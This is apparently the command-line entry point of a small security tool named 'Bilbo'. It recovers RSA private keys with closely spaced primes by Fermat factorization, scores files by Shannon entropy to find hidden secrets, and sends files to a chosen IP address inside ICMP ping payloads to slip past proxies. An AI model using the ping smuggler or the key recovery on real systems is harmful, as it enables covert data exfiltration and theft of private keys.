import argparse
import ipaddress
import sys

from .core.keycodec import KeyType, encode
from .errors import BilboError, InvalidDataError, InvalidInputError
from .modules import PickLock, PickLockConfig, SmugglerConfig, ping_cipher, ping_plain, scan

EXPLAIN = """
[*] BILBO

[*] RSA picklock offers two strategies.

1. Weak:
Recovers the private key when p and q are close to each other.
Uses Fermat factorization: starting at a = ceil(sqrt(n)) it looks for an a
where a^2 - n is a perfect square b^2, giving n = (a - b)(a + b).
The number of rounds grows with the distance between the primes, so success
within the fixed budget of 1000 rounds means the primes were close by
construction. If this tool opens your key, your key generator is broken.

2. Strong:
Targets keys whose primes were forced to be about half the modulus width,
with at most one bit of slack. Random odd candidates of that width are drawn
and tested for exact division. This is a Monte Carlo probe: it only pays off
when the generator squeezed the primes into a small search space.
Use --strong N to set the number of candidates (0 keeps the default).

[*] Shannon entropy.

Measures how unpredictable the content of a file is, per line and in total.
High entropy lines usually hold keys, tokens or compressed / encrypted blobs.

[*] Ping smuggler.

Sends a file in the payload of ICMP echo requests, 24 bytes per packet.
Useful when a proxy blocks traffic but lets ping through. With --encrypt the
file is encrypted with AES-128-CBC under the given 16 byte key and the IV is
sent in clear as the last packet.
"""


def check_level(level):
    """Report levels are 0, 1 or 2; None means 0."""
    level = 0 if level is None else level
    if level not in (0, 1, 2):
        raise InvalidDataError(f"Expected level 0, 1 or 2, got {level}")
    return level


def read_file(path):
    """Raw file content; keys may be DER and scanned files may be binary."""
    with open(path, "rb") as f:
        return f.read()


def run_picklock(path, strong_iters=None, report_level=None, seed=None):
    """
    Attacks the key stored at `path`. Returns the recovered private key PEM.
    strong_iters None selects the weak strategy, 0 the strong one with the
    default bound, anything else the strong one with that bound.
    """
    report_level = check_level(report_level)
    if not path:
        raise InvalidInputError(
            "I received an empty file path... I don't know what to picklock, please be specific..."
        )
    if strong_iters is not None and strong_iters < 0:
        raise InvalidDataError(f"Expected a non negative number of iterations, got {strong_iters}")

    raw = read_file(path)
    pl = PickLock.from_pem(raw, PickLockConfig(seed=seed))

    if strong_iters is None:
        if report_level >= 1:
            print("[*] Starting lock picking the weak RSA private key.\n")
        key = pl.try_lock_pick_weak_private()
    else:
        if report_level >= 1:
            print("[*] Starting lock picking the strong RSA private key.\n")
        if strong_iters != 0:
            pl.set_iteration_bound(strong_iters)
        key = pl.try_lock_pick_strong_private(report_level == 2)

    return encode(key, KeyType.PRIVATE)


def run_entropy(path, report_level=None):
    """Returns the entropy table for the file at `path`."""
    report_level = check_level(report_level)
    if report_level >= 1:
        print("[*] Starting Shannon entropy calculation.\n")
    if not path:
        raise InvalidInputError(
            "I received an empty file path... I don't know what file to calculate entropy for, please be specific..."
        )

    data = read_file(path)
    return scan(data, report_level).render()


def smuggle_file_via_ping(path, ip, key=None, config=None):
    """Sends the file at `path` to `ip` via ping, encrypted when `key` is given."""
    if not path:
        raise InvalidInputError("empty or incorrect file path")
    if not ip:
        raise InvalidInputError("empty or incorrect ip address")
    try:
        ip = ipaddress.IPv4Address(ip)
    except ValueError as err:
        raise InvalidInputError(f"empty or incorrect ip address: {err}") from err

    config = config or SmugglerConfig()
    data = read_file(path)

    if key is None:
        ping_plain(ip, data, config)
        return f"File {path!r} smuggled to {ip}\n"

    if isinstance(key, str):
        key = key.encode()
    iv = ping_cipher(ip, data, key, config)
    ping_plain(ip, iv, config)
    return f"File {path!r} smuggled to {ip}, with IV: {iv.hex()}\n"


def build_parser():
    parser = argparse.ArgumentParser(
        prog="bilbo",
        description="Bilbo is a simple CLI cyber security tool. "
                    "Scans files to discover hidden information and helps send them secretly.",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("picklock", help="Attempts to pick lock the rsa key.")
    p.add_argument("--file", help="Path to RSA key (PEM, DER or OpenSSH) to be lock picked")
    p.add_argument("--strong", type=int, metavar="ITERS",
                   help="Number of candidates to try with the strong strategy (0 keeps the default)")
    p.add_argument("--report", type=int, metavar="LEVEL",
                   help="Level of reporting. 0 (default): Only results. 1: Important steps only. "
                        "2: Information about number of candidates checked.")
    p.add_argument("--seed", type=int, help="Seed for the strong strategy random stream")

    e = sub.add_parser("entropy", help="Calculates Shannon entropy per line and for the whole file.")
    e.add_argument("--file", help="Path to file.")
    e.add_argument("--report", type=int, metavar="LEVEL",
                   help="Level of reporting. 0 (default): Only results. 1: Important steps only. "
                        "2: Entropy of every line.")

    s = sub.add_parser("smuggle", help="Smuggles the file via ping.")
    s.add_argument("--file", help="Path to file to be smuggled")
    s.add_argument("--ip", help="IPv4 of the server that will collect the smuggled file.")
    s.add_argument("--encrypt", metavar="KEY", help="16 byte encryption key.")

    sub.add_parser("explain", help="Explains used algorithms.")
    return parser


def main(argv=None):
    args = build_parser().parse_args(argv)

    try:
        if args.command == "picklock":
            result = run_picklock(args.file, args.strong, args.report, args.seed)
            print(f"[+] Lock picked private PEM key:\n{result}\n")
        elif args.command == "entropy":
            result = run_entropy(args.file, args.report)
            print(f"[+] Entropy:\n{result}\n")
        elif args.command == "smuggle":
            result = smuggle_file_via_ping(args.file, args.ip, args.encrypt)
            print(f"[+] Ping Smuggler: \n{result}\n")
        elif args.command == "explain":
            print(EXPLAIN)
    except (BilboError, OSError) as err:
        print(f"[-] Failure: {err}")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
